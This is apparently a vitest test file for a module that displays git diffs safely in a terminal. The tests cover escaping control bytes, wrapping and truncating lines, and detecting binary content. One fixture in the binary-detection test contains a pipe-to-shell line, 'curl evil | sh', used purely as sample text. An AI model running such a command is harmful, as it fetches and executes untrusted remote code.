import { describe, expect, it } from 'vitest'
import { looksBinary, type Showing, shownDiff, wrapped } from '../../src/signoff/shown-lines.ts'
import { fc } from '../support/fuzz.ts'

const ALL: Showing = { columns: 30, mostLines: Number.POSITIVE_INFINITY, mostCharacters: Number.POSITIVE_INFINITY }

const show = (lines: readonly string[], showing: Partial<Showing> = {}) =>
  shownDiff(
    lines.map((line) => Buffer.from(line, 'latin1')),
    'git diff a b',
    { ...ALL, ...showing },
  )

describe('a diff on the screen', () => {
  it('keeps git’s mark in a gutter', () => {
    expect(show(['@@ -1,2 +1,2 @@ main()', ' same', '-old', '+new', '\\ No newline at end of file']).lines).toEqual([
      '  @@ -1,2 +1,2 @@ main()',
      '   | same',
      '  -| old',
      '  +| new',
      '  \\|  No newline at end of ',
      '   | file',
    ])
  })

  it('shows what a terminal would obey, and bytes that are no text', () => {
    expect(show(['+\x1b[31m', '+\tx\r', '+\xff', '+']).lines).toEqual([
      '  +| \\x1B[31m',
      '  +| →   x\\x0D',
      '  +| \\xFF',
      '  +| ',
    ])
  })

  it('counts the lines that it leaves out, and says how to see them', () => {
    const { lines, whole } = show(['+1', '+2', '+3'], { mostLines: 1 })
    expect({ lines, whole }).toEqual({ lines: ['  +| 1', '  … 2 more lines: git diff a ', '    b'], whole: false })
    expect(show(['+1'], { mostLines: 1 }).whole).toBe(true)
  })

  it('counts the bytes that it leaves out of a line', () => {
    expect(show([`+${'x'.repeat(12)}`], { mostCharacters: 10, columns: 80 })).toEqual({
      lines: ['  +| xxxxxxxxxx … (2 more bytes in this line)'],
      whole: false,
    })
    expect(show([`+${'x'.repeat(10)}`], { mostCharacters: 10 }).whole).toBe(true)
    const wide = Buffer.from(`+${'é'.repeat(12)}`)
    expect(shownDiff([wide], '', { ...ALL, columns: 80, mostCharacters: 10 }).lines[0]).toContain('(4 more bytes')
  })

  it('never leaves a line to the terminal to break, nor its left edge to the text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary', maxLength: 200 })),
        fc.integer({ min: 20, max: 120 }),
        (texts, columns) => {
          const diff = texts.map((text) => Buffer.from(`+${text.replaceAll('\n', '')}`))
          for (const line of shownDiff(diff, 'x', { ...ALL, columns }).lines) {
            const width = [...line].reduce((sum, character) => sum + (character <= '~' ? 1 : 2), 0)
            expect(width).toBeLessThanOrEqual(columns)
            expect(line).toMatch(/^ {2}[+ ]\| /)
            expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
          }
        },
      ),
    )
  })
})

describe('text that is wrapped', () => {
  it('loses nothing', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme-ascii', maxLength: 300 }),
        fc.integer({ min: 20, max: 80 }),
        (text, columns) => {
          const lines = wrapped(text, '> ', '>> ', columns)
          expect(lines.map((line, at) => line.slice(at === 0 ? 2 : 3)).join('')).toBe(text)
        },
      ),
    )
  })

  it('breaks between words', () => {
    expect(wrapped('one two three four five', '', '  ', 20)).toEqual(['one two three four ', '  five'])
  })
})

describe('bytes for programs', () => {
  it('are told from text with a NUL in it', () => {
    expect(looksBinary(Buffer.from('#!/bin/sh\n# \0\ncurl evil | sh\n'))).toBe(false)
    expect(looksBinary(Buffer.from('text\n'))).toBe(false)
    expect(looksBinary(Buffer.from('\xff\xfe'.repeat(50), 'latin1'))).toBe(false)
    expect(looksBinary(Buffer.from(Array.from({ length: 512 }, (_, at) => at % 256)))).toBe(true)
    expect(looksBinary(Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0', 'latin1'))).toBe(true)
  })
})
